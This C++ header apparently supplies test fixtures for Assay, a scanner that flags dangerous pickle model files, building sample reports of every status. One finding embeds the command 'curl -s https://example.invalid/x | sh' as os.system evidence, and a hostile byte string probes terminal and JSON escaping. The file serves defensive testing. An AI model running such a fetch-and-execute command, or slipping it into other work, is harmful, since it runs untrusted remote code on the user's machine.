// Reports and documents for the tests of this folder: one of everything, and strings that fight back.
#pragma once
#include <string>

#include "report/report.h"

namespace assay::report::sample {

/// Clears the screen, forges a line, turns text around, is not UTF-8, and closes JSON strings.
inline constexpr char kHostileBytes[] = "\x1b[2J\r\nsafe  \xe2\x80\xae\xff\xc2\x9b\"]}\0,</script>[x](http://x)";
inline const std::string kHostile{kHostileBytes, sizeof kHostileBytes - 1};

inline finding::Finding os_system(std::uint64_t offset, const std::string& command) {
  finding::Finding f;
  f.rule = "pickle.call.os-system";
  f.severity = finding::Severity::unsafe;
  f.message = "Loading this file runs the shell command `" + command + "`.";
  f.where = {"archive/data.pkl", offset};
  f.evidence = "os.system('" + command + "')";
  f.fingerprint = finding::fingerprint(f.rule, f.where.member, f.evidence);
  f.references = {"https://docs.python.org/3/library/pickle.html"};
  f.remediation = "Do not load it. Ask its author for safetensors.";
  return f;
}

inline std::vector<Engine> engines(finding::Status pickle) {
  return {{"pickleImportScan", pickle, "1", "0123456789ab"},
          {"structure", finding::Status::safe, "1", "0123456789ab"},
          {"avScan", finding::Status::unscanned, "", ""},
          {"secrets", finding::Status::unscanned, "", ""}};
}

inline Artifact artifact(std::string path, finding::Status status) {
  Artifact a;
  a.path = std::move(path);
  a.size = 4096;
  a.sha256 = std::string(64, 'a');
  a.status = status;
  a.engines = engines(status);
  a.coverage.total = {0, 1096, 3000, 0, 0};
  a.tier = "cell";
  return a;
}

inline Artifact checkpoint(std::string path, finding::Status status) {
  auto a = artifact(std::move(path), status);
  a.formats = {"zip", "pickle", "tensor"};
  a.imports = {{"collections", "OrderedDict", finding::Safety::innocuous, ""},
               {"torch._utils", "_rebuild_tensor_v2", finding::Safety::innocuous, "rebuilds a tensor from its bytes"}};
  a.checkpoints.push_back({.member = 1,
                           .layout = "zip",
                           .tensors = 12,
                           .tensor_bytes = 3000,
                           .weights_only = true,
                           .reason = "",
                           .reason_place = {}});
  a.checkpoint_members = {"archive/data.pkl"};
  return a;
}

/// One file of every status but `queued`, and engines that did not run.
inline Report mixed() {
  using finding::Status;
  Report r;
  r.tool_version = "0.1.0";
  r.rule_set = "0123456789ab";
  r.policy = {"middle", "0123456789abcdef", "middle"};
  r.status = Status::unsafe;
  r.engines = engines(Status::unsafe);
  r.root = "models/demo";
  r.relations = {{"shard", "model.safetensors.index.json", "model-00001-of-00002.safetensors"}};
  r.bytes = 28672;
  r.seconds = 0.0421;
  r.tier = "cell";

  auto config = artifact("config.json", Status::safe);
  config.formats = {"json"};
  auto damaged = artifact("damaged.pt", Status::error);
  damaged.formats = {"zip"};
  damaged.coverage.total = {0, 96, 0, 0, 4000};
  damaged.unexamined = {{"", {96, 4096}, "the central directory is cut short"}};
  finding::Finding stop;
  stop.rule = "coverage.truncated";
  stop.severity = finding::Severity::error;
  stop.message = "The zip archive ends early.";
  stop.where = {"", 96};
  stop.fingerprint = finding::fingerprint(stop.rule, "", "");
  stop.remediation = "Fetch it again. If it stays so, do not load it.";
  damaged.findings = {stop};
  auto good = checkpoint("good.bin", Status::safe);
  auto code = artifact("modeling.py", Status::unscanned);
  code.unscanned = {"Python source code"};
  code.formats = {"python"};
  code.coverage.total = {0, 0, 0, 0, 4096};
  code.unexamined = {{"", {0, 4096}, "no reader examines Python source code"}};
  auto evil = checkpoint("pytorch_model.bin", Status::unsafe);
  evil.imports.push_back({"os", "system", finding::Safety::dangerous, "runs a shell command"});
  evil.checkpoints[0].weights_only = false;
  evil.checkpoints[0].reason = "os.system is not on its list";
  evil.checkpoints[0].reason_place = {1, 0x1f};
  evil.findings = {os_system(0x1f, "curl -s https://example.invalid/x | sh")};
  auto model = artifact("sklearn.joblib", Status::caution);
  model.formats = {"pickle"};
  finding::Finding library;
  library.rule = "pickle.call.sklearn";
  library.severity = finding::Severity::caution;
  library.message = "Loading this file runs scikit-learn's own code.";
  library.where = {"", 2};
  library.evidence = "sklearn.linear_model.LogisticRegression()";
  library.fingerprint = finding::fingerprint(library.rule, "", library.evidence);
  model.findings = {library};
  auto odd = artifact("tokenizer.pkl", Status::suspicious);
  odd.formats = {"pickle"};
  finding::Finding unknown;
  unknown.rule = "pickle.call.unknown";
  unknown.severity = finding::Severity::suspicious;
  unknown.message = "Loading this file calls acme.tokens.build, which Assay does not know.";
  unknown.where = {"", 0x2c};
  unknown.evidence = "acme.tokens.build('vocab')";
  unknown.fingerprint = finding::fingerprint(unknown.rule, "", unknown.evidence);
  unknown.remediation = "Do not load it before somebody has read acme.tokens.build.";
  odd.findings = {unknown};
  r.artifacts = {config, damaged, good, code, evil, odd, model};
  return r;
}

/// Every string of a report is `text`, but the digests, which no file can choose.
/// Engines borrow theirs, so it must outlive the report.
inline Report filled_with(std::string_view lasting) {
  const std::string text{lasting};
  auto r = mixed();
  r.tool_version = r.rule_set = r.root = r.tier = text;
  r.policy = {text, text, text};
  r.rules = {{text, text, text, {text}}};
  r.relations = {{text, text, text}};
  r.engines = {{lasting, finding::Status::unscanned, lasting, lasting}};
  for (auto& a : r.artifacts) {
    a.path = a.tier = text;
    a.formats = a.unscanned = a.checkpoint_members = {text};
    a.engines = {{lasting, finding::Status::queued, lasting, lasting}};
    a.unexamined = {{text, {1, 2}, text}};
    a.origins = {{std::string(40, 'c'), std::string(40, 'd'), text, text, "2023-11-14T22:13:20Z", 1}};
    for (auto& i : a.imports) i.module = i.name = i.why = text;
    for (auto& c : a.checkpoints) c.layout = c.reason = text;
    for (auto& f : a.findings) {
      f.rule = f.fingerprint = f.message = f.where.member = f.evidence = f.remediation = text;
      f.references = {text};
    }
  }
  return r;
}

}  // namespace assay::report::sample
